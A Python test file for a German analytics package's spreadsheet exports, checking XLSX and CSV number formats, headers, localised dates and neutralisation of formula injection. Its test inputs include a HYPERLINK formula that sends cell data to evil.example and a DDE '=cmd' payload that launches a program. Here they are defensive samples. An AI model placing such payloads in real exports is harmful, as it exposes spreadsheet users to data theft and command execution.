"""XLSX and CSV downloads: numbers, formats, frozen header, autofilter and formula injection."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest

from kam_analytics.exports.tables import (
    MONEY_FORMAT,
    PCT_FORMAT,
    frame_to_csv_de,
    frame_to_xlsx,
    neutralise_text,
)

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+49 621 123456",
    "-1+2",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


def sample_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Kunde": ["Müller GmbH", "Schmidt AG", "Weber KG"],
            "Umsatz": [1234.56, 987654.3, -12.5],
            "Anteil": [0.256, 0.5, 0.0],
            "Anzahl": [3, 12, 0],
            "Datum": [dt.date(2025, 1, 31), dt.date(2025, 12, 1), None],
        }
    )


def read_xlsx(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return wb, wb.worksheets[0]


def test_xlsx_numbers_formats_frozen_header_autofilter():
    data = frame_to_xlsx(sample_frame(), "Leistungen", money_cols=["Umsatz"], pct_cols=["Anteil"])
    wb, ws = read_xlsx(data)
    assert ws.title == "Leistungen"
    assert [c.value for c in ws[1]] == ["Kunde", "Umsatz", "Anteil", "Anzahl", "Datum"]
    assert ws["A2"].value == "Müller GmbH"
    assert ws["B2"].value == 1234.56
    assert ws["B3"].value == 987654.3
    assert ws["B4"].value == -12.5
    assert ws["B2"].number_format == MONEY_FORMAT == '#,##0.00 "€"'
    assert ws["C2"].value == 0.256
    assert ws["C2"].number_format == PCT_FORMAT == "0.0%"
    assert ws["D3"].value == 12
    assert ws["D3"].number_format == "#,##0"
    assert ws["E2"].value == dt.datetime(2025, 1, 31)
    assert ws["E2"].number_format == "DD.MM.YYYY"
    assert ws["E4"].value is None
    # header style: bold white on company blue
    assert ws["A1"].font.bold is True
    assert ws["A1"].fill.fgColor.rgb.endswith("1F3A5F")
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:E4"


def test_xlsx_with_title_moves_header_down():
    data = frame_to_xlsx(sample_frame(), "S", money_cols=["Umsatz"], title="Leistungen 2025")
    _, ws = read_xlsx(data)
    assert ws["A1"].value == "Leistungen 2025"
    assert ws["A3"].value == "Kunde"
    assert ws["B4"].value == 1234.56
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:E6"


def test_xlsx_sheet_name_is_made_valid():
    data = frame_to_xlsx(sample_frame(), "Leistungen/Kunden: [2025] und noch viel mehr Text")
    _, ws = read_xlsx(data)
    assert ws.title == "Leistungen_Kunden_ _2025_ und"  # cut at a word boundary (was "und n")


def test_csv_is_german_excel_csv():
    data = frame_to_csv_de(sample_frame(), money_cols=["Umsatz"])
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == "Kunde;Umsatz;Anteil;Anzahl;Datum"
    assert lines[1] == "Müller GmbH;1234,56;0,256;3;31.01.2025"
    assert lines[2] == "Schmidt AG;987654,30;0,5;12;01.12.2025"
    assert lines[3] == "Weber KG;-12,50;0;0;"
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][1] == "1234,56"


@pytest.mark.parametrize("name", INJECTIONS)
def test_formula_injection_is_neutralised_in_xlsx(name):
    df = pd.DataFrame({"Kunde": [name], "Wert": [-5.0]})
    _, ws = read_xlsx(frame_to_xlsx(df, "S", money_cols=["Wert"]))
    cell = ws["A2"]
    assert cell.data_type == "s"
    # openpyxl hands a carriage return back in its XML escape _x000D_
    assert cell.value.replace("_x000D_", "\r") == "'" + name
    # numbers stay numbers, even negative ones
    assert ws["B2"].value == -5.0
    assert ws["B2"].data_type == "n"


@pytest.mark.parametrize("name", INJECTIONS)
def test_formula_injection_is_neutralised_in_csv(name):
    df = pd.DataFrame({"Kunde": [name], "Wert": [-5.0]})
    text = frame_to_csv_de(df, money_cols=["Wert"]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1] == ["'" + name, "-5,00"]


def test_injected_header_is_neutralised_too():
    df = pd.DataFrame({"=cmd|' /C calc'!A0": ["x"]})
    _, ws = read_xlsx(frame_to_xlsx(df, "S"))
    assert ws["A1"].value == "'=cmd|' /C calc'!A0"
    text = frame_to_csv_de(df).decode("utf-8-sig")
    assert text.startswith("\"'=cmd|' /C calc'!A0\"") or text.startswith("'=cmd")


def test_neutralise_text_leaves_ordinary_text():
    assert neutralise_text("Müller GmbH") == "Müller GmbH"
    assert neutralise_text("") == ""
    assert neutralise_text("a=b") == "a=b"
    assert neutralise_text("=1") == "'=1"


def words_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Monat": ["2026-01", "2026-11", None],
            "Aktiv": [True, False, None],
            "Datum": [dt.date(2026, 11, 30), dt.date(2026, 1, 2), None],
        }
    )


@pytest.mark.parametrize(
    ("lang", "rows"),
    [
        ("de", ["Jan. 2026;ja;30.11.2026", "Nov. 2026;nein;02.01.2026", ";;"]),
        ("en", ["Jan 2026;yes;30/11/2026", "Nov 2026;no;02/01/2026", ";;"]),
    ],
)
def test_csv_writes_months_booleans_and_dates_in_words_of_the_language(lang, rows):
    data = frame_to_csv_de(words_frame(), month_cols=["Monat"], lang=lang)
    assert data.decode("utf-8-sig").split("\r\n")[1:4] == rows


@pytest.mark.parametrize(
    ("lang", "yes", "day"), [("de", "ja", "DD.MM.YYYY"), ("en", "yes", "DD/MM/YYYY")]
)
def test_xlsx_months_are_month_cells_and_booleans_words(lang, yes, day):
    _, ws = read_xlsx(frame_to_xlsx(words_frame(), month_cols=["Monat"], lang=lang))
    assert ws["A2"].value == dt.datetime(2026, 1, 1)
    assert ws["A2"].number_format == "MMM YYYY"
    assert ws["A4"].value is None
    assert ws["B2"].value == yes
    assert ws["B3"].value == ("nein" if lang == "de" else "no")
    assert ws["B4"].value is None
    assert ws["C2"].value == dt.datetime(2026, 11, 30)
    assert ws["C2"].number_format == day


@pytest.mark.parametrize(
    ("lang", "text", "fmt"),
    [
        ("de", "02.12.2026 16:32", "DD.MM.YYYY hh:mm"),
        ("en", "02/12/2026 16:32", "DD/MM/YYYY hh:mm"),
    ],
)
def test_a_timestamp_keeps_its_time_of_day(lang, text, fmt):
    frame = pd.DataFrame(
        {
            "Importiert am": [dt.datetime(2026, 12, 2, 16, 32, 13)],
            "Tag": [pd.Timestamp("2026-12-02")],
        }
    )
    assert (
        frame_to_csv_de(frame, lang=lang).decode("utf-8-sig").split("\r\n")[1]
        == f"{text};{text[:10]}"
    )
    _, ws = read_xlsx(frame_to_xlsx(frame, lang=lang))
    assert ws["A2"].number_format == fmt
    assert ws["B2"].number_format == fmt[:10]


def test_english_money_has_the_euro_sign_in_front():
    _, ws = read_xlsx(frame_to_xlsx(sample_frame(), money_cols=["Umsatz"], lang="en"))
    assert ws["B2"].number_format == '"€"#,##0.00'
